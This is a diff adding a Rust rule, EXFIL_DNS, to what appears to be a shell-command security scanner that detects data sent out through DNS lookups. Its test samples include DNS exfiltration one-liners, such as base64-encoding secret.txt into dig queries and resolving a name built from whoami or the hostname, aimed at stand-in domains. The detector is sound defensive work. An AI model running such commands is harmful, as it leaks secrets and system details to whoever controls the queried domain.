@@ -1,0 +1,56 @@
+//! What was read goes away in the names that are looked up.
+
+use crate::command::{Step, is_interpreter};
+use crate::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::unit::{ANYWHERE, Unit};
+
+pub(super) const RULE: Rule = Rule {
+    id: "EXFIL_DNS",
+    category: Category::Exfiltration,
+    severity: Severity::Critical,
+    title: "what a command says is sent away in names that are looked up",
+    why: "Looking up a name is hardly ever forbidden, and whoever owns the rest of the name reads the first part.",
+    fix: "remove the command",
+    places: ANYWHERE,
+    anchors: &["dig ", "nslookup ", "host $", "host \"$", "ping "],
+    check: Check::Unit(hits),
+    hits: &[
+        text("`dig $(whoami | base64).x.a.b`"),
+        text("`nslookup \"$(cat /etc/hostname).a.b\"`"),
+        file("run.sh", "for c in $(base64 -w 60 secret.txt); do dig $c.x.a.b; done\n"),
+        text("`ping -c 1 $(hostname).a.b`"),
+    ],
+    misses: &[
+        text("`dig +short $(hostname -f)`"),
+        text("`dig a.b txt`"),
+        file("run.sh", "for d in a.b c.d; do dig $d; done\n"),
+        text("`nslookup $DOMAIN`"),
+    ],
+};
+
+fn hits(unit: &Unit<'_>) -> Vec<Hit> {
+    let steps: Vec<Step<'_>> = unit.commands().steps().collect();
+    // Where something is encoded or read before, a variable may hold it.
+    let encodes =
+        steps.iter().any(|step| matches!(step.name().as_str(), "base64" | "base32" | "xxd" | "od" | "gzip"));
+    steps.into_iter().filter_map(|step| hit(step, encodes)).take(20).collect()
+}
+
+fn hit(step: Step<'_>, encodes: bool) -> Option<Hit> {
+    if !matches!(step.name().as_str(), "dig" | "nslookup" | "host" | "ping") {
+        return None;
+    }
+    let joined = step.words().iter().find(|word| {
+        let spelled = step.spelled(word);
+        let variable = spelled.contains('$') || spelled.contains('`');
+        // The rest of the name stands behind what is put in.
+        !word.is_literal()
+            && variable
+            && word.text.trim_end_matches('"').contains('.')
+            && spelled.rsplit([')', '}', '`']).next().is_some_and(|rest| rest.contains('.'))
+    })?;
+    let spelled = step.spelled(joined);
+    let runs = spelled.contains("$(") || spelled.contains('`');
+    let reads = step.substituted().any(|inner| !is_interpreter(&inner.name()));
+    (runs && reads || encodes).then(|| Hit::at(step.range()))
+}
